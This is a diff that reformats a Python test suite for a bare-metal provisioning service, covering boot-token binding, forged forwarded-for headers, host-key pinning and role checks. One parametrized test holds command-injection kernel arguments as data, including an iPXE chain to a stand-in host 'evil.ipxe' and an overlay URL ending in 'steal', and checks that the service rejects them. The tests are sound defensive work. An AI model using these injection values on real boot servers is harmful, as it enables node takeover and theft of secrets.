@@ -83,8 +83,15 @@ def tar_names(data: bytes) -> set[str]:
         return set(t.getnames())
 
 
-def provisioning(api: TestClient, engine: Any, settings: Any, bmcs: dict[str, Any], name: str = "gpu01",
-                 mac: str = MAC, **extra: Any) -> None:  # fmt: skip
+def provisioning(
+    api: TestClient,
+    engine: Any,
+    settings: Any,
+    bmcs: dict[str, Any],
+    name: str = "gpu01",
+    mac: str = MAC,
+    **extra: Any,
+) -> None:
     add_with_bmc(api, name, mac, bmcs["ipmi"], image="img", **extra)
     r = api.post("/api/v1/nodes/actions/provision", json={"nodes": name})
     assert r.status_code == 200, r.text
@@ -126,8 +133,10 @@ def test_a_mac_is_not_enough_to_take_a_provisioning_nodes_secrets(
 
     # hello from the node, with a forged forwarded-for header: the address of record is the socket's
     r = real.post(
-        "/boot/v1/hello", json={"mac": MAC}, headers={"Authorization": f"Bearer {token}", "X-Forwarded-For": OTHER_IP,
-                                                      "X-Real-IP": OTHER_IP})  # fmt: skip
+        "/boot/v1/hello",
+        json={"mac": MAC},
+        headers={"Authorization": f"Bearer {token}", "X-Forwarded-For": OTHER_IP, "X-Real-IP": OTHER_IP},
+    )
     assert r.status_code == 200, r.text
     with Session(engine) as s:
         assert s.exec(select(Interface.ip).where(Interface.mac == MAC)).one() == NODE_IP
@@ -135,7 +144,6 @@ def test_a_mac_is_not_enough_to_take_a_provisioning_nodes_secrets(
     assert booted == [f"called back from {NODE_IP} ({MAC})"]
     for e in events(engine, "boot.token") + events(engine, "boot.script") + events(engine, "boot.overlay"):
         assert token not in e.message and token not in str(e.detail)
-
 
 
 def test_a_thief_first_binds_the_attempt_and_the_node_is_refused_loudly(
@@ -148,8 +156,10 @@ def test_a_thief_first_binds_the_attempt_and_the_node_is_refused_loudly(
     thief, real = at(api, OTHER_IP), at(api, NODE_IP)
     stolen = token_of(fetch(thief)[1])
     assert fetch(real)[0] == "refused"
-    assert any(f"refused to {NODE_IP}: this boot is bound to {OTHER_IP}" in e.message
-               for e in events(engine, "boot.script"))  # fmt: skip
+    assert any(
+        f"refused to {NODE_IP}: this boot is bound to {OTHER_IP}" in e.message
+        for e in events(engine, "boot.script")
+    )
     # the attempt fails at its deadline (the clock passes it here), and a new attempt starts a new token
     from bcm.models.base import utcnow
 
@@ -190,7 +200,10 @@ def test_a_node_made_host_key_is_pinned_at_hello(
     bad = api.post("/api/v1/categories", json={"name": "untrusted", "host_key_source": "nodes"})
     assert bad.status_code == 422 and bad.json()["field"] == "host_key_source"
     # what bcm trusts at boot is an admin's choice: an operator may neither create nor switch it
-    op = {"Authorization": "Bearer " + api.post("/api/v1/tokens", json={"name": "op", "role": "operator"}).json()["token"]}
+    op = {
+        "Authorization": "Bearer "
+        + api.post("/api/v1/tokens", json={"name": "op", "role": "operator"}).json()["token"]
+    }
     r = api.post("/api/v1/categories", json={"name": "untrusted", "host_key_source": "node"}, headers=op)
     assert r.status_code == 403 and r.json()["field"] == "host_key_source"
     assert api.post("/api/v1/categories", json={"name": "plain"}, headers=op).status_code == 201
@@ -237,8 +250,12 @@ def test_a_pre_registered_key_is_kept_and_only_an_admins_rekey_replaces_it(
     add_with_bmc(api, "gpu02", "52:54:00:aa:00:02", bmcs["redfish"], image="img", ssh_host_key=k2)
     op = api.post("/api/v1/tokens", json={"name": "op", "role": "operator"}).json()["token"]
     body = {"nodes": "gpu02", "rekey": True}
-    assert api.post("/api/v1/nodes/actions/provision", json=body,
-                    headers={"Authorization": f"Bearer {op}"}).status_code == 403  # fmt: skip
+    assert (
+        api.post(
+            "/api/v1/nodes/actions/provision", json=body, headers={"Authorization": f"Bearer {op}"}
+        ).status_code
+        == 403
+    )
     wrong = api.post("/api/v1/nodes/actions/drain", json=body)
     assert wrong.status_code == 422 and wrong.json()["field"] == "rekey"
     assert pinned(engine, "gpu02") == k2 and node(api, "gpu02")["provision_state"] == "registered"
@@ -263,14 +280,23 @@ def test_a_pre_registered_key_is_kept_and_only_an_admins_rekey_replaces_it(
 
 @pytest.mark.parametrize(
     "bad",
-    ["quiet\nshell", "quiet\nchain http://198.18.0.9/evil.ipxe", "quiet ; shell", "quiet || shell",
-     "bcm.overlay=http://198.18.0.9/steal", "bcm.token=x"],
-)  # fmt: skip
+    [
+        "quiet\nshell",
+        "quiet\nchain http://198.18.0.9/evil.ipxe",
+        "quiet ; shell",
+        "quiet || shell",
+        "bcm.overlay=http://198.18.0.9/steal",
+        "bcm.token=x",
+    ],
+)
 def test_kernel_args_that_add_commands_or_override_bcm_are_refused(api: TestClient, bad: str) -> None:
     r = api.post("/api/v1/nodes", json={"name": "gpu01", "mac": MAC, "kernel_args": bad})
     assert r.status_code == 422 and r.json()["field"] == "kernel_args", r.text
     assert api.get("/api/v1/nodes/gpu01").status_code == 404
-    assert api.post("/api/v1/nodes", json={"name": "gpu01", "mac": MAC, "kernel_args": "quiet"}).status_code == 201
+    assert (
+        api.post("/api/v1/nodes", json={"name": "gpu01", "mac": MAC, "kernel_args": "quiet"}).status_code
+        == 201
+    )
     r = api.patch("/api/v1/nodes/gpu01", json={"kernel_args": bad})
     assert r.status_code == 422 and r.json()["field"] == "kernel_args", r.text
     assert node(api, "gpu01")["kernel_args"] == "quiet"
@@ -301,5 +327,5 @@ def test_bcms_parameters_come_last_and_pxe_kernel_args_are_checked(
     args = kernel.split(" || ")[0].split()[5:]  # after kernel --name vmlinuz URL initrd=initrd.img
     operator = [a for a in args if not a.startswith("bcm.")]
     assert operator == [*settings.pxe.kernel_args.split(), "rd.driver.blacklist=nouveau", "quiet"]
-    assert args[: len(operator)] == operator and all(a.startswith("bcm.") for a in args[len(operator):])
+    assert args[: len(operator)] == operator and all(a.startswith("bcm.") for a in args[len(operator) :])
     assert args[-1].startswith("bcm.token=")
